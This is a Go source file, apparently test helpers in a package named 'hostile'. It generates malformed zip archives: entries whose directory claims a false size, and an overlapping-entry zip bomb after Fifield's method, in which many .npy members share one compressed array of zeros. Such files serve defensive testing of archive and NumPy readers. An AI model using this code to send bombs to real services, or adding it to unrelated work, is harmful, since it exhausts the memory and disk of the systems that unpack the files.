package hostile

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"strings"
)

// File is a member of a zip archive.
type File struct {
	Name  string // its path
	Data  string // before it is compressed
	Claim uint64 // size that the directory says; 0: that of Data
}

// Zip packs files with deflate.
func Zip(files ...File) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	deflate, err := flate.NewWriter(nil, flate.DefaultCompression)
	if err != nil {
		panic(err)
	}
	for _, f := range files {
		var packed bytes.Buffer
		deflate.Reset(&packed)
		deflate.Write([]byte(f.Data)) // a bytes.Buffer takes everything
		deflate.Close()
		size := f.Claim
		if size == 0 {
			size = uint64(len(f.Data))
		}
		w, err := z.CreateRaw(&zip.FileHeader{Name: f.Name, Method: zip.Deflate, CRC32: crc32.ChecksumIEEE([]byte(f.Data)),
			CompressedSize64: uint64(packed.Len()), UncompressedSize64: size})
		if err == nil {
			_, err = w.Write(packed.Bytes())
		}
		if err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// Overlapping returns an archive whose members x.npy, 1.npy, 2.npy, … all share the same bytes of the file: one array of n
// zeros (D. Fifield, "A better zip bomb", WOOT 2019).
func Overlapping(members, n int) []byte {
	one := Zip(File{Name: "x.npy", Data: NPY("'|u1'", fmt.Sprintf("(1, %d)", n), strings.Repeat("\x00", n))})
	at := bytes.Index(one, []byte("PK\x01\x02"))
	const fixed = 46 // bytes of a directory's entry before its name (APPNOTE.TXT 4.3.12)
	entry := one[at : at+fixed]
	b := bytes.Clone(one[:at])
	for i := range members {
		name := "x.npy"
		if i > 0 {
			name = fmt.Sprintf("%d.npy", i)
		}
		e := bytes.Clone(entry)
		binary.LittleEndian.PutUint16(e[28:], uint16(len(name)))
		copy(e[30:], "\x00\x00\x00\x00") // neither extra field nor comment
		b = append(append(b, e...), name...)
	}
	end := []byte("PK\x05\x06\x00\x00\x00\x00")
	end = binary.LittleEndian.AppendUint16(end, uint16(members))
	end = binary.LittleEndian.AppendUint16(end, uint16(members))
	end = binary.LittleEndian.AppendUint32(end, uint32(len(b)-at))
	end = binary.LittleEndian.AppendUint32(end, uint32(at))
	return append(append(b, end...), 0, 0)
}
